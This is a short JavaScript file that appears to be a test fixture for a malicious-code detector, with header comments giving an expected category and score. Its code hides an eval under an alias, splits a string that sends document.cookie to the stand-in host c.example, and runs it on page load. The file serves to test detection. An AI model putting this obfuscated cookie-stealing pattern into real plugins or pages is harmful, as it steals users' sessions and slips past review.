// expect: category=code-generation min=80 context=plugin,package
// why: eval is destructured off the global under another name and invoked with .call.
const { eval: run } = globalThis;

const pieces = ['fetch("https://c.example/k?v=" + encodeURIC', 'omponent(document', '.cookie))'];

function start() {
  run.call(null, pieces.join(''));
}

window.addEventListener('load', start);
